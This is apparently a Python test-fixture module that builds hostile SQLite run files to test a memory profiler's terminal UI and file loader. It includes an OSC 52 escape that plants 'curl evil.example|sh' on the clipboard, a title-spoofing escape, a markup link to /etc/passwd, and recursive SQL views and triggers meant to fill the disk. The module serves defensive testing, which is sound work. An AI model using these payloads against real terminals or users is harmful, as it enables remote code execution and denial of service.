"""Crafted run files, made in the test from a real recorded run: the attacks of issue #11."""

from __future__ import annotations

import json
import shutil
import sqlite3
from pathlib import Path

from tui_support import run_path

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"  # OSC 52: "curl evil.example|sh"
TITLE = "\x1b]2;pwned\x07"  # OSC 2: the window title
LINK = "[link=file:///etc/passwd]x[/link]"  # Rich markup: an OSC 8 hyperlink if interpreted
HOSTILE = f"h{CLIPBOARD}{TITLE}{LINK}[bold red]r[/] [/data/train.csv]\u202ee\x9b31m\x00"
STRING_META = ("run_id", "label", "status", "cause", "weights", "weights_note", "model",
               "backend", "host", "cpu", "python")


def copy_of_a_real_run(target: Path) -> Path:
    shutil.copyfile(run_path("torch"), target)
    return target


def set_meta(db: sqlite3.Connection, values: dict) -> None:
    db.executemany("INSERT OR REPLACE INTO meta VALUES (?, ?)",
                   [(k, json.dumps(v)) for k, v in values.items()])


def hostile_strings(target: Path, run_id: str = f"r{HOSTILE}") -> Path:
    """Escape sequences and markup in every string a run file holds."""
    copy_of_a_real_run(target)
    with sqlite3.connect(target) as db:
        set_meta(db, {**{key: f"{key}{HOSTILE}" for key in STRING_META}, "run_id": run_id,
                      "command": ["python", f"train{HOSTILE}.py"], "summary": None,
                      "foreign_frameworks": [f"tf{HOSTILE}"], "devices": [f"cpu{HOSTILE}"],
                      "versions": {"keras": f"3{HOSTILE}"},
                      "cluster": {"ray_node_id": f"n{HOSTILE}", "node_host": f"h{HOSTILE}",
                                  "node_ip": f"i{HOSTILE}", "accelerator": f"a{HOSTILE}"},
                      "workers": [{"pid": 1, "name": f"rank 0{HOSTILE}", "peak": 1 << 20},
                                  {"pid": 2, "name": f"pid 2 w{HOSTILE}", "peak": 2 << 20}]})
        rows = db.execute("SELECT seq, data FROM stages").fetchall()
        for seq, data in rows:
            stage = json.loads(data)
            stage["name"] = f"{stage['name']}{HOSTILE}"
            if seq == rows[-1][0]:  # a rank's stage, and other processes' peaks
                stage["worker"] = f"rank 1{HOSTILE}"[:40]
                stage["processes"] = [{"pid": 2, "name": f"pid 2 w{HOSTILE}", "peak": 1 << 20}]
            db.execute("UPDATE stages SET name = ?, data = ? WHERE seq = ?",
                       (stage["name"], json.dumps(stage), seq))
        db.execute("INSERT INTO events VALUES (560.0, 'swap', 'warning', ?, NULL)",
                   (f"swap alarm {HOSTILE}",))
        db.execute("UPDATE events SET message = ? WHERE kind = 'end'", (f"done {HOSTILE}",))
    return target


def with_schema_object(target: Path, kind: str) -> Path:
    """A run file holding a view, a trigger or a table that memtop did not write."""
    copy_of_a_real_run(target)
    with sqlite3.connect(target) as db:
        if kind == "recursive view":  # reading `samples` would fill the disk
            db.execute("DROP TABLE samples")
            db.execute("CREATE VIEW samples AS WITH RECURSIVE n(t, rss) AS "
                       "(SELECT 0.0, 1 UNION ALL SELECT t + 1, rss FROM n) SELECT t, rss FROM n")
        elif kind == "view as stages":
            db.execute("ALTER TABLE stages RENAME TO stages_real")
            db.execute("CREATE VIEW stages AS WITH RECURSIVE n(seq, name, t, t_end, data) AS "
                       "(SELECT 1, 'x', 0.0, 0.0, '{}' UNION ALL "
                       "SELECT seq + 1, name, t, t_end, data FROM n) SELECT * FROM n")
        elif kind == "trigger":
            db.execute("CREATE TRIGGER grow AFTER INSERT ON events BEGIN "
                       "INSERT INTO events VALUES (0, 'x', 'info', 'x', NULL); END")
        elif kind == "extra table":
            db.execute("CREATE TABLE payload (x BLOB)")
        elif kind == "index named like memtop's":  # an expression of the file's making
            db.execute("CREATE INDEX blocks_by_time ON stages (abs(t))")
        elif kind == "extra index":
            db.execute("CREATE INDEX by_name ON stages (length(name))")
    return target


BAD_VALUES = ("string size", "missing rss", "list as spec", "NaN start", "text in samples",
              "text summary", "negative peak", "stages as a map", "ends before it starts",
              "a place not its own")


def with_bad_values(target: Path, kind: str) -> Path:
    """Wrong types, missing keys and NaN where memtop writes numbers."""
    copy_of_a_real_run(target)
    with sqlite3.connect(target) as db:
        first = json.loads(db.execute("SELECT data FROM stages WHERE seq = 1").fetchone()[0])
        stage = dict(first)
        if kind == "string size":
            stage["rss"] = "big"
        elif kind == "missing rss":
            del stage["rss"]
        elif kind == "negative peak":
            stage["peak"] = -5
        elif kind == "stages as a map":
            stage = {"not": "a stage"}
        elif kind == "ends before it starts":  # a negative duration is damage, never shown
            stage["t_start"] = stage["t"] + 5
        elif kind == "a place not its own":  # its path must end in its own name
            stage.update(path=["elsewhere"], trail=[0])
        elif kind == "list as spec":
            set_meta(db, {"spec": []})
        elif kind == "NaN start":
            db.execute("INSERT OR REPLACE INTO meta VALUES ('started_wall', 'NaN')")
        elif kind == "text in samples":
            db.execute("UPDATE samples SET rss = 'x' WHERE rowid = 5")
        elif kind == "text summary":
            set_meta(db, {"summary": {"peak_mb": ["huge"]}})
        if stage != first:
            db.execute("UPDATE stages SET data = ? WHERE seq = 1", (json.dumps(stage),))
    return target
